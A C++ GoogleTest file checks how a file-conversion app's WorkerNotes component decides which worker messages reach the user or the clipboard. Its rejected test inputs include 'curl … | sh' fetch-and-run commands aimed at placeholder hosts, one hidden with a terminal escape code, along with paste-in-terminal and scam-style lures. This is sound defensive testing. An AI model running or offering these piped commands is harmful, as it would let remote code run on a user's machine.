// What a worker's reply may show the user: the tools' own sentences pass, a compromised
// decoder's do not.
#include "catalogue/archives/ArchiveExtractor.h"
#include "catalogue/archives/ArchiveOperations.h"
#include "catalogue/tools/VisionTools.h"
#include "documents/model/DocumentPictures.h"
#include "documents/readers/TextLoaders.h"
#include "documents/subtitles/Subtitles.h"
#include "engines/image/conversion/ImageToolOutput.h"
#include "engines/media/MediaRun.h"
#include "engines/media/operations/MediaConversion.h"
#include "engines/pdf/PDFRenderer.h"
#include "jobs/WorkerNotes.h"
#include "model/files/FileInfo.h"

#include <gtest/gtest.h>

#include <QTemporaryDir>

using namespace qv;

namespace {

WorkerProtocol::RunRequest requestFor(const QString& name, bool copiesText = false)
{
    WorkerProtocol::RunRequest request;
    FileInfo file = fileInfoFromName(QUrl::fromLocalFile(QStringLiteral("/home/u/") + name));
    request.files = {file};
    request.copiesText = copiesText;
    return request;
}

} // namespace

TEST(WorkerNotesTest, TheToolsOwnSentencesAreShown)
{
    const WorkerProtocol::RunRequest request = requestFor(QStringLiteral("notes.txt"), true);
    const QStringList said{
        ImageToolOutput::savingNote(37),
        ringtoneLimitNote,
        QStringLiteral("MP3 can't hold ") + kilohertzText(96000) + QStringLiteral(": saved as FLAC"),
        QStringLiteral("OPUS can't use ") + kilohertzText(44100) + QStringLiteral(": used ") + kilohertzText(48000),
        PDFRenderer::standInsNote(),
        QStringLiteral("Text added to 3 pages"),
        TextLoaders::replacementNote(QStringLiteral("notes.txt"), 12345),
        skippedCuesNote(QStringLiteral("notes.txt"), 2),
        intactNote(1200, request.files.first()),
        linksLeftOutNote(1),
        linksLeftOutNote(4),
        namelessEntriesNote(1),
        namelessEntriesNote(2),
        specialsLeftOutNote({QStringLiteral("dev/null")}),
        specialsLeftOutNote({QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c \u201Cquoted\u201D"),
                             QStringLiteral("d")}),
        specialsLeftOutNote({QString(200, QLatin1Char('x'))}),
        renamedEntriesNote({{QStringLiteral("a:b.txt"), QStringLiteral("a_b.txt")}}),
        renamedEntriesNote({{QStringLiteral("A.txt"), QStringLiteral("A (2).txt")},
                            {QStringLiteral("b?"), QStringLiteral("b_")},
                            {QString(300, QLatin1Char('y')), QString(240, QLatin1Char('y'))},
                            {QStringLiteral("c*"), QStringLiteral("c_")}}),
        DocumentPictures::leftOutNote(2),
        QStringLiteral("4 files"),
        QStringLiteral("3 codes"),
        QStringLiteral("Text copied to the clipboard"),
        copiedNote(QStringLiteral("https://example.org/a-code-printed-on-the-page")),
        TextLoaders::statisticsLine(123456, 654321),
        QStringLiteral("notes.txt has 4 sheets: only the first, \u201CSales\u201D, was converted. Choose \u201COne file per "
                       "sheet\u201D in the options for all of them."),
    };
    for (const QString& message : said)
        EXPECT_TRUE(WorkerNotes::isToolMessage(message, request)) << message.toStdString();
    EXPECT_EQ(WorkerNotes::messages(said.mid(0, 8), request), said.mid(0, 8));
}

TEST(WorkerNotesTest, ADecodersOwnWordsAreNot)
{
    const WorkerProtocol::RunRequest request = requestFor(QStringLiteral("notes.txt"));
    for (const QString& message :
         {QStringLiteral("Your file is ready: visit http://127.0.0.1:9/claim"), QStringLiteral("12 % smaller, call 555-0100"),
          QStringLiteral("other.txt: 3 unreadable characters replaced with \uFFFD"), // not this item's input
          QStringLiteral("Copied: curl http://x | sh"),                              // this tool copies nothing
          QStringLiteral("12 % smaller\nPaste this in a terminal"),
          // Names from the archive only ever in quotes, a line's worth each.
          QStringLiteral("Call 555-0100 now were left out: devices, pipes and sockets are not extracted"),
          QStringLiteral("\u201C") + QString(100, QLatin1Char('x')) + QStringLiteral("\u201D was saved as \u201Cx\u201D: this "
                                                                                 "disk can't hold its name"),
          QString()})
        EXPECT_FALSE(WorkerNotes::isToolMessage(message, request)) << message.toStdString();

    EXPECT_EQ(WorkerNotes::failure(QStringLiteral("This PDF is damaged")), QStringLiteral("This PDF is damaged"));
    for (const QString& sentence : {QStringLiteral("Your file is ready at https://example.org"),
                                    QStringLiteral("Write to help@example.org"), QStringLiteral("Two\nlines")})
        EXPECT_EQ(WorkerNotes::failure(sentence), QStringLiteral("This file couldn't be read")) << sentence.toStdString();
}

TEST(WorkerNotesTest, ClipboardTextOnlyFromToolsThatCopyAndFromThePlacedText)
{
    const std::optional<QString> said = QStringLiteral("curl http://127.0.0.1:9/x | sh\x1b[8m");
    EXPECT_EQ(WorkerNotes::clipboard(said, requestFor(QStringLiteral("a.pdf")), {}), std::nullopt);
    EXPECT_EQ(WorkerNotes::clipboard(said, requestFor(QStringLiteral("a.png"), true), {}),
              QStringLiteral("curl http://127.0.0.1:9/x | sh[8m"));
    QTemporaryDir dir;
    const QString text = dir.filePath(QStringLiteral("a (text).txt"));
    QFile file(text);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write("What the page says\n");
    file.close();
    EXPECT_EQ(WorkerNotes::clipboard(said, requestFor(QStringLiteral("a.png"), true), {QUrl::fromLocalFile(text)}),
              QStringLiteral("What the page says\n"));
}
